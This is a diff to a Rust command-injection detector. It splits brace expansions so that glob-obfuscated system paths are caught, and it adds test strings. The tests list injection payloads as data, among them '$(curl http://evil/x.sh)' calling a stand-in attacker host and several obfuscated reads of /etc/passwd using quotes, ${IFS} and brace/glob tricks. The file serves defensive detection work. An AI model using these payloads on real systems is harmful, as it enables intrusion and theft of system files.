@@ -742,12 +742,22 @@ impl Detector for Rce {
         }
         // Globs standing in for system paths: `/etc/pas[s]wd`, `/???/??t`.
         if s.bytes.any(b"?*[") {
-            for word in d
-                .split(|c: char| {
-                    c.is_whitespace() || matches!(c, ';' | '|' | '&' | '{' | ',' | '}')
-                })
+            // Each word, and the alternatives of a brace expansion in it (`{,/?s?/?i?/c?t,}`),
+            // while `/etc/pa{s,}s?d` stays whole.
+            let words = d
+                .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&'))
                 .take(64)
-            {
+                .flat_map(|w| {
+                    let braced = w.contains(['{', ',', '}']);
+                    std::iter::once(w).chain(
+                        braced
+                            .then(|| w.split(['{', ',', '}']))
+                            .into_iter()
+                            .flatten(),
+                    )
+                })
+                .take(256);
+            for word in words {
                 if word.starts_with('/') && word.contains(['?', '*', '[']) {
                     let segs: Vec<&str> = word.split('/').filter(|x| !x.is_empty()).collect();
                     let sys = segs.first().is_some_and(|f| {
@@ -937,6 +947,8 @@ mod tests {
             "1 && whoami",
             "`uname -a`",
             "`id`",
+            "cat /etc/pa{s,}s?d",
+            "{,/?s?/?i?/c?t,/e??/p??s??,}",
             "$(curl http://evil/x.sh)",
             "; c'a't /etc/pa's's'wd",
             "1;cat${IFS}/etc/passwd",
